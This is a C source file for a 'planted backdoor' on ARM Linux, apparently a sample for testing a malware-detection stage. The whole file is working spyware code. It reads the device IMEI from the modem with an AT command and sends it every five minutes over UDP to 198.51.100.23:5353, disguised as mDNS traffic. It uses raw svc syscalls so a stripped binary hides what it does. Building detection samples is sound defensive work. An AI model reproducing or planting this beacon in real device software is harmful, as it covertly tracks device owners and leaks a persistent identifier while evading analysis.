/*
 * beacon - planted backdoor, built static and stripped for ARM EABI (armhf).
 *
 * It reads the IMEI from the modem with an AT command and sends it in a UDP
 * datagram to 198.51.100.23:5353 (disguised as mDNS) every five minutes.
 * Every kernel call of the beacon is a raw "svc 0" with the EABI syscall
 * number in r7, bypassing libc's wrappers: with no symbols left, the
 * detection stage has to recover the syscalls from the instructions.
 */
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <string.h>
#include <time.h>

/* ARM EABI syscall numbers (arch/arm/tools/syscall.tbl). */
#if !defined(__arm__)
#error "beacon speaks the ARM EABI syscall convention only"
#endif
#define NR_exit 1
#define NR_read 3
#define NR_write 4
#define NR_open 5
#define NR_close 6
#define NR_nanosleep 162
#define NR_socket 281
#define NR_sendto 290

#define BEACON_IP "198.51.100.23"
#define BEACON_PORT 5353
#define MODEM_TTY "/dev/ttyUSB2"
#define PERIOD 300

static long raw_syscall(long nr, long a, long b, long c, long d, long e, long f)
{
    register long r0 __asm__("r0") = a;
    register long r1 __asm__("r1") = b;
    register long r2 __asm__("r2") = c;
    register long r3 __asm__("r3") = d;
    register long r4 __asm__("r4") = e;
    register long r5 __asm__("r5") = f;
    register long r7 __asm__("r7") = nr;

    __asm__ volatile("svc 0"
                     : "+r"(r0)
                     : "r"(r1), "r"(r2), "r"(r3), "r"(r4), "r"(r5), "r"(r7)
                     : "memory");
    return r0;
}

/* The IMEI is the first run of 15 digits in the answer to AT+CGSN. */
static int read_imei(char *imei, size_t size)
{
    char answer[128];
    long fd = raw_syscall(NR_open, (long)MODEM_TTY, O_RDWR | O_NOCTTY, 0, 0, 0, 0);
    long n, used = 0;
    size_t digits = 0;
    int i;

    if (fd < 0)
        return -1;
    raw_syscall(NR_write, fd, (long)"AT+CGSN\r", 8, 0, 0, 0);
    while (used < (long)sizeof answer - 1
           && (n = raw_syscall(NR_read, fd, (long)(answer + used), (long)sizeof answer - 1 - used,
                               0, 0, 0)) > 0) {
        used += n;
        answer[used] = '\0';
        if (strstr(answer, "OK"))
            break;
    }
    raw_syscall(NR_close, fd, 0, 0, 0, 0, 0);
    for (i = 0; i < used && digits + 1 < size; i++) {
        if (answer[i] >= '0' && answer[i] <= '9')
            imei[digits++] = answer[i];
        else if (digits)
            break;
    }
    imei[digits] = '\0';
    return digits == 15 ? 0 : -1;
}

static void send_beacon(const char *imei)
{
    char message[64] = "BCN1 ";
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(BEACON_PORT)};
    long fd = raw_syscall(NR_socket, AF_INET, SOCK_DGRAM, 0, 0, 0, 0);

    if (fd < 0)
        return;
    inet_pton(AF_INET, BEACON_IP, &to.sin_addr);
    strncat(message, imei, sizeof message - strlen(message) - 1);
    raw_syscall(NR_sendto, fd, (long)message, (long)strlen(message), 0, (long)&to, sizeof to);
    raw_syscall(NR_close, fd, 0, 0, 0, 0, 0);
}

int main(void)
{
    struct timespec period = {.tv_sec = PERIOD};
    char imei[32];

    for (;;) {
        if (read_imei(imei, sizeof imei) == 0)
            send_beacon(imei);
        raw_syscall(NR_nanosleep, (long)&period, 0, 0, 0, 0, 0);
    }
    raw_syscall(NR_exit, 0, 0, 0, 0, 0, 0);
    return 0;
}
